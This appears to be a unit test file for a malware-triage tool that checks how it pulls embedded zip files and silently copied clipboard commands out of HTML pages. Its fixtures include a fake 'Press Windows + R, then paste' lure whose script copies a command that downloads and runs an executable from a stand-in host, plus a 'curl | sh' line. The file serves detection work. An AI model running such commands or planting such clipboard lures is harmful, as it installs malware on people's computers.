from tests.unit.triage.documents.samples import members
from tests.unit.triage.documents.test_html import LONG, SMUGGLED
from tests.unit.triage.unpack.packed import files, opened
from vedette.triage.kinds import Kind
from vedette.triage.unpack import html


def test_what_a_page_carries_comes_out_once_and_under_its_name() -> None:
    page = f'<a download="a.zip" href="data:application/zip;base64,{LONG}">get</a>{SMUGGLED}'
    (found,) = members(html, page.encode(), Kind.HTML).items()
    assert found[0] == "a.zip"
    assert found[1].startswith(b"PK\x03\x04")


def test_a_page_of_words_holds_nothing() -> None:
    assert members(html, b"<p>words</p><img src='a.png'>", Kind.HTML) == {}


STEPS = "<p>Press Windows + R, then Ctrl + V and Enter</p>"


def test_a_command_copied_unseen_is_a_script_of_its_own() -> None:
    script = 'navigator.clipboard.writeText("cmd /c \\"curl http://198.51.100.9/a -o b.exe\\" && b.exe")'
    found = files(opened(f"<html>{STEPS}<script>{script}</script></html>".encode(), "a.html"))
    assert found == {"copied1.cmd": b'cmd /c "curl http://198.51.100.9/a -o b.exe" && b.exe'}


def test_what_a_page_copies_and_shows_is_none() -> None:
    script = "navigator.clipboard.writeText('curl -s x | sh')"
    page = f"<html>{STEPS}<pre>curl -s x | sh</pre><script>{script}</script></html>"
    assert files(opened(page.encode(), "a.html")) == {}
